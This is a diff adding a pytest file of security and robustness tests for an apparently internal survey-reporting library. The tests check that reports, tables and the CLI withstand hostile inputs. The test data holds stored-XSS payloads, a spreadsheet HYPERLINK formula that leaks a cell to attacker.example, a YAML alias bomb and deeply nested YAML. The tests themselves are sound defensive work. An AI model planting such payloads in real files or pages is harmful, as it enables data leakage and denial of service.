@@ -1,0 +1,329 @@
+"""Fault and abuse trials: no data file can run code in a page or a spreadsheet, exhaust the machine or destroy
+a report; every failure of the command line is one clear line. Real builds, real files, a real browser."""
+import os
+import re
+import resource
+import shutil
+import signal
+import subprocess
+import sys
+import textwrap
+import time
+import zipfile
+
+import nbformat
+import pandas as pd
+import pytest
+import yaml
+from openpyxl import load_workbook
+
+from sqmlib import SQMReportError, churn, io, outputs, report
+
+from conftest import ROOT
+
+pytestmark = pytest.mark.slow
+
+SCRIPT = "<script>window.__pwned=1</script>"
+IMG = '<img src=x onerror="window.__pwned=2">'
+CATEGORY = "<script>window.__pwned=3</script>"
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+
+
+# ---- 1. stored script injection ----------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def hostile_dir(small_dir, tmp_path_factory):
+    """The small dataset with markup in an item's wording, a region name and a complaint category."""
+    d = tmp_path_factory.mktemp("hostile")
+    for f in small_dir.iterdir():
+        shutil.copy(f, d / f.name)
+    inst = yaml.safe_load((ROOT / "sqmlib" / "instruments" / "servqual.yaml").read_text(encoding="utf-8"))
+    inst["items"]["05"]["en"] = f"does what it promised {SCRIPT}"
+    (d / "instrument.yaml").write_text(yaml.safe_dump(inst, allow_unicode=True), encoding="utf-8")
+    for name in ("survey.csv", "customers.csv", "interactions.csv"):
+        t = pd.read_csv(d / name, dtype=str, keep_default_na=False)
+        t["region"] = t["region"].replace("South", IMG)
+        if name == "interactions.csv":
+            t["category"] = t["category"].replace("billing", CATEGORY)
+        t.to_csv(d / name, index=False)
+    return d
+
+
+@pytest.fixture(scope="module")
+def hostile_report(hostile_dir, tmp_path_factory):
+    out = tmp_path_factory.mktemp("hostile_reports")
+    stems = ("00_data_audit", "02_gap_analysis", "03_driver_regression", "05_kpi_monitoring")
+    return report.build(data_dir=hostile_dir, out_dir=out, progress=False, log=lambda *a: None,
+                        notebooks=[nb for nb in report.report_notebooks() if nb.stem in stems])
+
+
+def test_markup_from_data_is_shown_not_run(hostile_report):
+    pages = sorted(hostile_report.glob("*.html"))
+    assert len(pages) == 5
+    for page in pages:
+        text = page.read_text(encoding="utf-8")
+        assert "<script>window.__pwned" not in text, page.name
+        assert "<img src=x onerror" not in text, page.name
+    gaps_page = (hostile_report / "02_gap_analysis.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in gaps_page  # shown as text
+    chromium = shutil.which("chromium")
+    try:
+        from playwright.sync_api import sync_playwright
+    except ImportError:
+        sync_playwright = None
+    if chromium and sync_playwright:
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=chromium, args=["--headless", "--no-sandbox",
+                                                                        "--disable-gpu", "--no-first-run",
+                                                                        "--disable-background-networking"])
+            tab = browser.new_page()
+            for page in pages:
+                tab.goto(page.as_uri())
+                tab.wait_for_timeout(300)
+                assert tab.evaluate("window.__pwned") is None, f"script from the data ran in {page.name}"
+            browser.close()
+
+
+def test_explorer_tables_escape_markup(hostile_dir):
+    from sqmlib import explore, serve
+
+    folder = io.load_folder(hostile_dir)
+    app = serve.App({"survey": explore.SurveyExplorer.from_folder(folder)})
+    v = app.view("survey", {"segment": "region", "value": IMG})
+    assert "<img src=x" not in v["table"] + v["extra"]
+    # the status line and option labels carry the value as it is: the page's script sets them as text
+    assert IMG in v["controls"]["value"]["options"] and IMG in v["status"]
+    assert ".status').textContent = v.status" in app.page("") and "opt.textContent = o" in app.page("")
+    page = app.page("<b>data</b>")
+    assert "<b>data</b>" not in page and "&lt;b&gt;data&lt;/b&gt;" in page
+
+
+# ---- 2. formula injection -----------------------------------------------------------------------------------
+def test_no_formula_from_data_in_csv_or_excel(tmp_path):
+    frame = pd.DataFrame({"customer_id": [FORMULA, "+1-555", "-2", "@SUM(A1)", "000123", "1234567890123456789"],
+                          "value": [1.0, 2.0, -3.0, 4.0, 5.0, 6.0]}, index=pd.Index(["=a", "b", "c", "d", "e", "f"]))
+    outputs.write_csv(frame, tmp_path / "t.csv")
+    back = pd.read_csv(tmp_path / "t.csv", dtype=str, index_col=0)
+    assert back["customer_id"].tolist()[:4] == ["'" + FORMULA, "'+1-555", "'-2", "'@SUM(A1)"]
+    assert back.index[0] == "'=a" and back["value"].tolist()[2] == "-3.0"  # numbers stay numbers
+    outputs.write_excel({"t": frame}, tmp_path / "t.xlsx")
+    ws = load_workbook(tmp_path / "t.xlsx")["t"]
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+    assert ws["B2"].value == FORMULA and ws["B6"].value == "000123" and ws["B7"].value == "1234567890123456789"
+
+
+def test_risk_list_neutralises_ids(small_data, tmp_path):
+    d = tmp_path / "data"
+    small_data.save(d)
+    cust = pd.read_csv(d / "customers.csv", dtype=str, keep_default_na=False)
+    first = cust["customer_id"].iloc[0]
+    for name in ("customers.csv", "interactions.csv", "survey.csv"):
+        t = pd.read_csv(d / name, dtype=str, keep_default_na=False)
+        t["customer_id"] = t["customer_id"].replace(first, FORMULA)
+        t.to_csv(d / name, index=False)
+    result = churn.run_churn(io.load_folder(d))
+    result.write_files(tmp_path / "out")
+    text = (tmp_path / "out" / "risk_list.csv").read_text(encoding="utf-8")
+    rows = [ln for ln in text.splitlines() if "HYPERLINK" in ln]
+    assert rows and all(ln.startswith("\"'=HYPERLINK") for ln in rows), rows
+    ws = load_workbook(tmp_path / "out" / "risk_list.xlsx").active
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+
+
+# ---- 4 and 5. a report is never replaced by accident ---------------------------------------------------------
+def _build_cmd(data, out, *extra):
+    code = ("import sys; from sqmlib import report; "
+            f"report.build('2026Q3', data_dir={str(data)!r}, out_dir={str(out)!r}, progress=False, "
+            f"notebooks=report.report_notebooks()[:1]{''.join(extra)}); print('built')")
+    return [sys.executable, "-c", code]
+
+
+def test_concurrent_builds_of_one_quarter(small_dir, tmp_path):
+    out = tmp_path / "reports"
+    first = subprocess.Popen(_build_cmd(small_dir, out), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    time.sleep(0.5)
+    second = subprocess.Popen(_build_cmd(small_dir, out), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    results = [p.communicate(timeout=300) for p in (first, second)]
+    built = [r for r in results if "built" in r[0]]
+    refused = [r for r in results if "SQMReportError" in r[1]]
+    assert len(built) == 1 and len(refused) == 1, results
+    assert "already exists" in refused[0][1] or "appeared" in refused[0][1]
+    assert sorted(p.name for p in out.iterdir()) == ["2026Q3"] and report.is_report(out / "2026Q3")
+
+
+def test_force_replaces_only_an_sqm_report(small_dir, tmp_path):
+    out = tmp_path / "reports"
+    mine = out / "2026Q3"
+    mine.mkdir(parents=True)
+    (mine / "my_notes.txt").write_text("not a report")
+    with pytest.raises(SQMReportError, match="not a report built by sqm"):
+        report.build("2026Q3", data_dir=small_dir, out_dir=out, force=True, progress=False, log=lambda *a: None,
+                     notebooks=report.report_notebooks()[:1])
+    assert (mine / "my_notes.txt").read_text() == "not a report"
+    assert sorted(p.name for p in out.iterdir()) == ["2026Q3"]
+
+
+# ---- 6. the combined workbook keeps text as text ---------------------------------------------------------------
+def test_combined_workbook_keeps_values(tmp_path):
+    nb = tmp_path / "02_x"
+    report.write_tables(nb, {"ids": pd.DataFrame({"id": ["000123", "1234567890123456789", FORMULA],
+                                                  "item": ["01", "02", "03"], "n": [1, 2, 3]})})
+    name = report.combine_tables(tmp_path, ["02_x"])
+    ws = load_workbook(tmp_path / name)["02 ids"]
+    values = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
+    assert [v[1:] for v in values] == [["000123", "01", 1], ["1234567890123456789", "02", 2], [FORMULA, "03", 3]]
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+
+
+# ---- 7. the inputs are the same at the end of a build as at its start ------------------------------------------
+def test_input_changed_during_a_build_stops_it(small_dir, tmp_path):
+    data = tmp_path / "data"
+    shutil.copytree(small_dir, data)
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_code_cell("x = 1"),
+                nbformat.v4.new_code_cell('data_dir: str = ""  # data\nout_dir: str = ""  # output',
+                                          metadata={"tags": ["parameters"]}),
+                nbformat.v4.new_code_cell("import json, pathlib\n"
+                                          "p = pathlib.Path(data_dir) / 'survey.csv'\n"
+                                          "p.write_text(p.read_text() + p.read_text().splitlines()[-1] + '\\n')\n"
+                                          "pathlib.Path(out_dir).mkdir(parents=True, exist_ok=True)\n"
+                                          "(pathlib.Path(out_dir) / 'metrics.json').write_text(json.dumps({'title': 'x'}))")]
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    writer = tmp_path / "01_writer.ipynb"
+    nbformat.write(nb, writer)
+    out = tmp_path / "reports"
+    with pytest.raises(SQMReportError, match=r"input files changed.*survey\.csv"):
+        report.build("2026Q3", data_dir=data, out_dir=out, progress=False, log=lambda *a: None, notebooks=[writer])
+    assert list(out.iterdir()) == []
+
+
+# ---- 8. bounded memory and a clear error for hostile inputs -----------------------------------------------------
+def _capped(code: str, limit_gb: float = 3.0, timeout: float = 60) -> subprocess.CompletedProcess:
+    """Run ``code`` in a fresh interpreter under an address-space cap."""
+    def cap():
+        limit = int(limit_gb * 2 ** 30)
+        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+
+    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True,
+                          timeout=timeout, preexec_fn=cap)
+
+
+def _huge_dimension_xlsx(path):
+    frame = pd.DataFrame({"respondent_id": ["R1", "R2"], "P01": [5, 6]})
+    frame.to_excel(path, index=False)
+    tmp = path.with_suffix(".tmp")
+    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename.startswith("xl/worksheets/"):
+                data = data.replace(b'<dimension ref="A1:B3"/>', b'<dimension ref="A1:XFD1048576"/>')
+            zout.writestr(item, data)
+    tmp.replace(path)
+
+
+def test_xlsx_declaring_a_huge_sheet(tmp_path):
+    path = tmp_path / "survey.xlsx"
+    _huge_dimension_xlsx(path)
+    t0 = time.time()
+    r = _capped(f"from sqmlib import io\ndf, _ = io.read_table({str(path)!r})\nprint(df.shape)")
+    assert r.returncode == 0, r.stderr[-500:]
+    assert r.stdout.strip() == "(2, 2)" and time.time() - t0 < 30
+
+
+@pytest.mark.parametrize("content, message", [
+    ("a: &a ['x','x','x','x','x','x','x','x','x']\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
+     "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n",
+     "aliases"),
+    ("x: " + "[" * 3000 + "]" * 3000 + "\n", "nested"),
+])
+def test_hostile_instrument_files(tmp_path, content, message):
+    path = tmp_path / "instrument.yaml"
+    path.write_text(content)
+    r = _capped(f"""
+        from sqmlib import instruments, SQMDataError
+        try:
+            instruments.load({str(path)!r})
+        except SQMDataError as exc:
+            print("ERR", str(exc).splitlines()[1])
+        """, limit_gb=1.5, timeout=30)
+    assert r.returncode == 0 and r.stdout.startswith("ERR") and message in r.stdout, (r.stdout, r.stderr[-500:])
+
+
+def test_garbage_survey_stops_within_seconds(tmp_path):
+    header = (ROOT / "data" / "sample" / "survey.csv").read_text(encoding="utf-8").splitlines()[0]
+    ncol = header.count(",") + 1
+    line = ",".join(f"x{k}" for k in range(ncol)) + "\n"
+    path = tmp_path / "survey.csv"
+    with open(path, "w") as fh:
+        fh.write(header + "\n")
+        for _ in range(54_000_000 // len(line)):
+            fh.write(line)
+    t0 = time.time()
+    r = _capped(f"""
+        from sqmlib import io, SQMDataError
+        try:
+            io.load_survey({str(path)!r})
+        except SQMDataError as exc:
+            print("ERR", str(exc).splitlines()[0])
+            print(str(exc).splitlines()[1])
+        """, limit_gb=2.0, timeout=60)
+    seconds = time.time() - t0
+    assert r.stdout.startswith("ERR") and "survey.csv" in r.stdout, r.stderr[-500:]
+    assert "stopped after checking the first" in r.stdout
+    assert seconds < 15, seconds
+
+
+# ---- 9 and 10. the command line: one clear line, nothing half-written left behind ----------------------------
+def _sqm(*args, **kw):
+    return subprocess.run([sys.executable, "-m", "sqmlib.cli", *args], capture_output=True, text=True, **kw)
+
+
+def _one_line(stderr: str) -> str:
+    lines = [ln for ln in stderr.splitlines() if ln.strip() and "Kernel is running" not in ln
+             and not ln.startswith("[")]
+    assert len(lines) == 1, stderr[-2000:]
+    assert "Traceback" not in stderr
+    return lines[0]
+
+
+def test_cli_errors_are_one_line(small_dir, tmp_path):
+    a_file = tmp_path / "a_file"
+    a_file.write_text("x")
+    r = _sqm("report", "--data", str(small_dir), "--out", str(a_file), "--no-progress", timeout=120)
+    assert r.returncode == 1 and "is a file" in _one_line(r.stderr)
+    r = _sqm("report", "--data", str(small_dir), "--out", "/proc/sqm-reports", "--no-progress", timeout=120)
+    assert r.returncode == 1 and "cannot write to the reports folder" in _one_line(r.stderr)
+    tiny = tmp_path / "tiny"
+    tiny.mkdir()
+    lines = (small_dir / "survey.csv").read_text(encoding="utf-8").splitlines()
+    (tiny / "survey.csv").write_text("\n".join(lines[:13]) + "\n", encoding="utf-8")
+    r = _sqm("report", "--data", str(tiny), "--out", str(tmp_path / "r"), "--no-progress", timeout=300)
+    assert r.returncode == 1 and re.search(r"only \d+ respondents", _one_line(r.stderr))
+    assert list((tmp_path / "r").iterdir()) == []
+
+
+@pytest.mark.parametrize("sig, code, word", [(signal.SIGTERM, 143, "stopped"), (signal.SIGINT, 130, "interrupted")])
+def test_signals_leave_nothing_behind(small_dir, tmp_path, sig, code, word):
+    out = tmp_path / "reports"
+    proc = subprocess.Popen([sys.executable, "-m", "sqmlib.cli", "report", "--data", str(small_dir), "--out",
+                             str(out), "--no-progress"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    deadline = time.time() + 120
+    while not (out.exists() and any(p.name.startswith(".2026Q3.building") for p in out.iterdir())):
+        assert time.time() < deadline and proc.poll() is None
+        time.sleep(0.2)
+    time.sleep(2)  # a notebook is running now
+    proc.send_signal(sig)
+    _, err = proc.communicate(timeout=120)
+    assert proc.returncode == code and word in _one_line(err)
+    assert list(out.iterdir()) == []
+
+
+def test_stale_building_folders_are_removed(small_dir, tmp_path):
+    out = tmp_path / "reports"
+    stale = out / ".2026Q2.building-999999999"
+    stale.mkdir(parents=True)
+    (stale / "half.ipynb").write_text("{}")
+    alive = out / f".2026Q1.building-{os.getppid()}"  # a running process's folder stays
+    alive.mkdir()
+    report.build("2026Q3", data_dir=small_dir, out_dir=out, progress=False, log=lambda *a: None,
+                 notebooks=report.report_notebooks()[:1])
+    assert sorted(p.name for p in out.iterdir()) == [alive.name, "2026Q3"]
